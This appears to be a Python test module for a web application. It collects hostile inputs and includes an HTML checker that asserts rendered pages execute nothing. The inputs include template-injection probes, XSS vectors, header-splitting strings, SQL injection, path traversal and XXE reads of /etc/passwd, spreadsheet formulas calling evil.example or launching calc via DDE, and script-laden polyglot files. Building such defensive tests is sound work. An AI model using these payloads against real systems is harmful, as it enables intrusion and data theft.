"""More texts, names and files that try to become something else, and the eye that sees whether one of them did."""

from __future__ import annotations

import re
from collections.abc import Mapping
from html.parser import HTMLParser

from bonafides.vet.registers import countries, everywhere, register_of
from tests.page.hostile import BODIES as KNOWN

PRODUCT = "1779547"
"""What `1337*1331` comes to: a page that shows it has worked something out that was only to be shown."""
_TEMPLATES = tuple(
    each.format(sum="1337*1331")
    for each in (
        "{{{{{sum}}}}}",
        "{{% print({sum}) %}}",
        "${{{sum}}}",
        "#{{{sum}}}",
        "<%= {sum} %>",
        "{{{{= {sum} }}}}",
        "[[${{{sum}}}]]",
        "@({sum})",
        "*{{{sum}}}",
        "{{{{'x'.__class__.__base__}}}}{{{{{sum}}}}}",
        "{{{{ lipsum.__globals__ }}}}{{{{{sum}}}}}",
        "{{php}}echo {sum};{{/php}}",
        "$({sum})",
        "$(( {sum} ))",
        "{{#with {sum}}}",
        "{{{{ cycler.__init__ }}}}{{{{{sum}}}}}",
    )
)
_ELEMENTS = (
    "<svg/onload=pwned=1>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:pwned=1>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned=1/>#x'/></svg>",
    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "<svg><style>@import '//evil.example/x.css'</style></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwned=1>x</maction></math>",
    "<math href=javascript:pwned=1>x</math>",
    "<isindex action=javascript:pwned=1 type=image>",
    "<button formaction=javascript:pwned=1>x</button>",
    "<input type=image src=x onerror=pwned=1>",
    "<form><input name=csrf value=planted></form>",
    "</form><form action=//evil.example><input name=csrf>",
    "<input form=x name=csrf>",
    "<a href=jav&#x09;ascript:pwned=1>x</a>",
    "<a href='java\nscript:pwned=1'>x</a>",
    "<a href=\x01javascript:pwned=1>x</a>",
    "<a target=_blank href=//evil.example rel=opener>x</a>",
    "<area href=javascript:pwned=1>",
    "<applet code=X></applet>",
    "<bgsound src=//evil.example>",
    "<keygen autofocus onfocus=pwned=1>",
    "<dialog open onclose=pwned=1>x</dialog>",
    "<menu onshow=pwned=1>",
    "<meter onmouseover=pwned=1>",
    "<object type=text/html data=//evil.example></object>",
    "<iframe sandbox='allow-scripts' srcdoc=x></iframe>",
    "<link rel=manifest href=//evil.example>",
    "<link rel=modulepreload href=//evil.example>",
    "<script type=module>import '//evil.example'</script>",
    "<script type=importmap>{}</script>",
    "<script nonce=x>pwned=1</script>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<meta name=referrer content=unsafe-url>",
    "<meta charset=utf-7>+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
    "<base target=_top>",
    "<fencedframe src=//evil.example>",
    "<slot name=x onslotchange=pwned=1>",
    "<x contenteditable oninput=pwned=1>x</x>",
    "<p popover onbeforetoggle=pwned=1>x</p>",
    "<video><source onerror=pwned=1></video>",
    "<img src=x:x onerror=pwned=1//",
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="background:url(//evil.example)">x</p>',
    "<a id=csrf name=csrf href=x>x</a>",
)
_BREAKS = (
    '" onfocus=pwned=1 autofocus x="',
    "' autofocus onfocus=pwned=1 x='",
    "` onmouseover=pwned=1 `",
    'x" formaction="javascript:pwned=1',
    "</option></select><script>pwned=1</script>",
    "</bdi></p><img src=x onerror=pwned=1>",
    "</summary></details><script>pwned=1</script>",
    "</svg><script>pwned=1</script>",
    "</caption></table><script>pwned=1</script>",
    "</code></pre><script>pwned=1</script>",
    "\r\n\r\n<script>pwned=1</script>",
    "%0d%0aSet-Cookie:%20pwned=1",
    "x\r\nSet-Cookie: pwned=1",
    '"; filename="x.html',
    'x"\r\nContent-Type: text/html\r\n\r\n<script>pwned=1</script>',
    '{"error": null}',
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
    "</main><script>pwned=1</script><main>",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "<!--><script>pwned=1</script-->",
    "<![CDATA[<script>pwned=1</script>]]>",
    "<?xml-stylesheet href='javascript:pwned=1'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)
_FORMULAS = (
    "=1337*1331",
    "+1337*1331",
    "-1337*1331",
    "@SUM(1337*1331)",
    "\t=1337*1331",
    "\r=1337*1331",
    "\n=1337*1331",
    " =1337*1331",
    "\u200b=1337*1331",
    "\ufeff=1337*1331",
    '=IMPORTXML("//evil.example","//a")',
    '=WEBSERVICE("//evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    '"=1337*1331"',
    ";=1337*1331",
    "＝1337*1331",
)
_QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE cases;--",
    '" OR 1=1 --',
    "1; ATTACH DATABASE '/etc/x' AS x",
    "a* NEAR(b",
    '"',
    "AND OR NOT",
    "terms:x",
    "x')--",
    "':*",
    "x & !y | (z",
    "\\'",
    "%' OR '%'='",
    "_%_",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "//evil.example",
    "/\\evil.example",
    "http:evil.example",
    "\x00",
    "\x00\x00=x",
    "0" * 400,
    "9" * 400,
    "-1",
    "1e309",
    "NaN",
    "١٢٣",
    "²",
)
_ODD = (
    "\u202e\u202d\u2066gnp.exe\u2069",
    "\u061c\u200e\u200f",
    "\u2028<script>pwned=1</script>",
    "\x85\x9b31mred",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "\U000e0001\U000e0020hidden\U000e007f",
    "\ufdd0\uffff\U0010ffff",
    "a" + "\u0301" * 900,
    "\u1160\u3164\u2800",
    "ﷺ" * 400,
    "\U0001f469\u200d" * 300,
    "w" * 60_000,
    "&" * 9_000,
    "<" * 9_000,
    "\n" * 5_000,
    "\ud800lone",
    "\udfff\ud800",
    "İ" * 300,
    "ß" * 300,
    "\u00a0" * 300 + "x",
)
BODIES = tuple(dict.fromkeys((*KNOWN, *_TEMPLATES, *_ELEMENTS, *_BREAKS, *_FORMULAS, *_QUERIES, *_ODD)))
"""Those of the browser edition, and those that a server has besides."""
NAMES = (
    "<script>pwned=1</script>.txt",
    "../../../../etc/passwd",
    "..\\..\\windows\\x.txt",
    "/etc/x",
    "C:\\x.txt",
    "CON.txt",
    "a" * 900 + ".txt",
    "é" * 300,
    "\u202egpj.exe",
    "{{1337*1331}}.txt",
    'x"; filename="y.html',
    "x.html\r\nSet-Cookie: pwned=1",
    "x\x00.html",
    "%2e%2e%2fx",
    ".htaccess",
    "..",
    " ",
    "x'y`z$(id)",
    "\ud800.txt",
    "=1337*1331.csv",
    "~",
    "desk.sqlite",
    "<img src=x onerror=pwned=1>.svg",
)
"""Names of files."""
_GIF = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;pwned=1;"
FILES = (
    ("active.html", b"<!doctype html><script>pwned=1</script>", "text/html"),
    (
        "active.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'><script>pwned=1</script></svg>",
        "image/svg+xml",
    ),
    ("entities.svg", b"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>", "image/svg+xml"),
    ("both.gif", _GIF, "image/gif"),
    ("both.pdf", b"%PDF-1.4\n<script>pwned=1</script>\n%%EOF", "application/pdf"),
    ("not.zip", b"PK\x03\x04<script>pwned=1</script>", "application/zip"),
    ("sheet.csv", b"=cmd|'/c calc'!A1,<script>pwned=1</script>\n", "text/csv"),
    ("page.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>pwned=1</script>", "multipart/related"),
    ("code.js", b"pwned=1", "text/javascript"),
    ("typed.bin", b"x" * 40, "text/html; charset=utf-7\r\nSet-Cookie: pwned=1"),
)
"""Files that a browser would run if it were let."""

_OURS = {"icon", "stylesheet"}
_NEVER = frozenset(
    """applet area audio base bgsound dialog embed fencedframe foreignobject frame frameset iframe image img isindex
    keygen marquee math menu noscript object picture plaintext portal slot source style template track video xmp animate
    set use listing maction""".split()
)
"""Elements that no page has: each of them could only come from a stranger's text."""
_PLACES = (
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "background",
    "data",
    "cite",
    "xlink:href",
    "srcset",
    "ping",
    "manifest",
)
_OWN_PLACE = re.compile(r"(/(?![/\\])|#|\?)[^\x00-\x20\\]*\Z|[a-z-]+\.html\Z|\Z")
_SOURCE = re.compile(r"https://(?!evil|leak)[a-z0-9.-]+\.[a-z]{2,}/[^\x00-\x20]*\Z")
"""Where a reason of the program's can be read up; no stranger's text names such a place in these tests."""
_REGISTERS = frozenset(
    each.address for each in (*everywhere().values(), *map(register_of, countries())) if each is not None
)
"""Company registers and the neutral places beside them, as the dated list has them, letter by letter: where a firm can
be looked up. Such a link opens on a click alone, and does not tell that place from which page somebody came."""
_APART = {"noopener", "noreferrer"}
_META = {(("charset", "utf-8"),), *((("name", name),) for name in ("viewport", "color-scheme", "generator"))}
_HIDDEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]"
)
"""What hides or reorders words, and must be shown or left out."""


def _leads_on(tag: str, name: str, given: Mapping[str, str]) -> bool:
    """Whether an attribute may lead where it does."""
    place = given.get(name, "")
    if (tag, name) == ("a", "href") and place in _REGISTERS:
        return set(given.get("rel", "").split()) >= _APART and "target" not in given
    return bool(_OWN_PLACE.match(place) or ((tag, name) == ("a", "href") and _SOURCE.match(place)))


class Seen(HTMLParser):
    """What in a page could do something that a page of ours does not do."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self._raw = 0
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self._raw += tag in ("textarea", "title")
        self.bad += [f"<{tag}>"] if tag in _NEVER else []
        self.bad += [f"{tag} {name}" for name in given if name.startswith("on") or name in ("style", "srcdoc", "nonce")]
        self.bad += [
            f"{tag} {name}={given[name][:60]}" for name in _PLACES if name in given and not _leads_on(tag, name, given)
        ]
        if len(attrs) != len(given):
            self.bad.append(f"{tag} has an attribute twice")
        match tag:
            case "script":
                if set(given) - {"type", "src"} or not given.get("src", "").startswith("/static/"):
                    self.bad.append("script")
            case "link":
                if given.get("rel") not in _OURS | {"prev", "next"} or not given.get("href", "").startswith("/"):
                    self.bad.append("link")
            case "meta":
                if tuple(attrs)[:1] not in _META:
                    self.bad.append(f"meta {attrs}")

    def handle_endtag(self, tag: str) -> None:
        self._raw -= tag in ("textarea", "title")

    def handle_data(self, data: str) -> None:
        if self.lasttag == "script" and data.strip():
            self.bad.append("script with a body")
        if not self._raw and _HIDDEN.search(data):
            self.bad.append(f"hidden {_HIDDEN.findall(data)[:3]!a}")
        if PRODUCT in data:
            self.bad.append("worked out")


def assert_harmless(text: str, place: str = "") -> None:
    """That a page does nothing but show."""
    bad = Seen(text).bad
    assert not bad, (place, bad[:5])
